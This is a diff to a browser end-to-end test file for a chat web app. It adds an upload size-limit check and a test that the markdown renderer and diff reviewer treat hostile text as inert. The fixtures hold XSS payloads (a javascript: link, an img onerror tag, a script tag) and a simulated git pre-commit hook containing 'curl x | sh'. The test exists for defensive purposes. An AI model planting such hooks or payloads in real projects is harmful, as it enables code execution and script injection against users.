@@ -38,6 +38,7 @@ ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--d
 TIMEOUT_MS = 30_000
 PAYLOAD = bytes(range(256)) * 3 * 1024 + b"\0\xff tail"
 """Every byte value, 768 KiB and a few bytes: more than one 512 KiB upload chunk."""
+UPLOAD_MAX = 1024 * 1024
 CHAT_SCRIPT = {"responses": [
     {"text": "Let me **check** the files first.",
      "tool_calls": [{"name": "Bash", "input": {"command": "echo out-one; echo err-one >&2"}}]},
@@ -64,6 +65,7 @@ def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
     """`silo up` with a second gateway replica (``gateway2``), for a browser paired with two gateways."""
     (g2_port,) = free_ports(1)
     s = Stack(tmp_path_factory.mktemp("webapp") / "state", services={
+        "gateway": {"options": {"upload_max_bytes": UPLOAD_MAX}},
         "gateway2": {"role": "gateway", "metrics_port": 0, "options": {"port": g2_port}}})
     s.start()
     s.g2_url = f"wss://127.0.0.1:{g2_port}/ws"  # type: ignore[attr-defined]
@@ -310,6 +312,11 @@ def test_chat_question_race_and_binary_upload(stack: Stack, pages: tuple[Any, An
         p.wait_for_selector(".line.file:has-text('uploaded blob.bin')")
     assert b.text_content(".upload-status") == "uploaded blob.bin"
     assert (ws / "blob.bin").read_bytes() == PAYLOAD
+    (tmp_path / "big.bin").write_bytes(b"\0" * (UPLOAD_MAX + 1))  # over the gateway's limit: refused, said
+    b.set_input_files(".session:not([hidden]) input[type=file]", str(tmp_path / "big.bin"))
+    b.wait_for_selector(".line.error:has-text('upload of big.bin failed')")
+    assert "1048576" in b.text_content(".line.error:has-text('upload of big.bin failed')")
+    assert not (ws / "big.bin").exists()
 
     # the gateway dies: both reconnect with backoff, sign a new challenge, resume from the last seq
     os.kill(stack.live_pid("gateway") or 0, signal.SIGKILL)
@@ -429,3 +436,27 @@ def test_a_second_gateway_by_url_with_its_own_key(stack: Stack, pages: tuple[Any
     view.locator(".line.assistant:has-text('all good')").wait_for()
     assert view.locator(".line.assistant").count() == len(CHAT_SCRIPT["responses"])
     assert a.locator(".tab").count() == 3
+
+
+def test_markdown_and_diff_parsing_take_hostile_text_as_text(pages: tuple[Any, Any]) -> None:
+    a, _ = pages
+    md = a.evaluate("""() => import('./markdown.js').then(({renderMarkdown}) => {
+        const n = renderMarkdown('# T <b>x</b>\\n[click](javascript:alert(1)) [ok](https://example.org/a)\\n' +
+          '<img src=x onerror=alert(1)> **bold** `<i>c</i>`\\n- item <script>x</script>\\n```\\nunclosed');
+        return {links: [...n.querySelectorAll('a')].map((x) => x.href), tags: [...n.querySelectorAll('*')]
+          .map((x) => x.tagName.toLowerCase()), text: n.textContent};
+      })""")
+    assert md["links"] == ["https://example.org/a"]
+    assert set(md["tags"]) <= {"h3", "p", "a", "strong", "em", "code", "ul", "li", "pre"}
+    assert "<img src=x onerror=alert(1)>" in md["text"] and "[click](javascript:alert(1))" in md["text"]
+    assert "<script>x</script>" in md["text"] and "unclosed" in md["text"]
+    files = a.evaluate("""() => import('./review.js').then(({parseUnlockReport}) => parseUnlockReport(
+        {auto_exec: [{path: '.git/hooks/pre-commit', reason: 'git runs hooks'}],
+         added: [{path: 'b.bin'}, {path: '.git/hooks/pre-commit'}], modified: [{path: 'a.txt'}]},
+        'Changes since lock: 3\\n\\nBinary file b.bin added (4 bytes)\\n--- /dev/null\\n' +
+        '+++ b/.git/hooks/pre-commit\\n@@ -0,0 +1 @@\\n+curl x | sh\\n--- a/a.txt\\n+++ b/a.txt\\n' +
+        '@@ -1 +1 @@\\n-1\\n+2\\n'))""")
+    assert [f["path"] for f in files] == [".git/hooks/pre-commit", "a.txt", "b.bin"]
+    assert files[0]["autoExec"] == "git runs hooks" and files[0]["diff"].endswith("+curl x | sh")
+    assert files[1]["diff"].splitlines()[-2:] == ["-1", "+2"]
+    assert files[2]["diff"] == "Binary file b.bin added (4 bytes)"
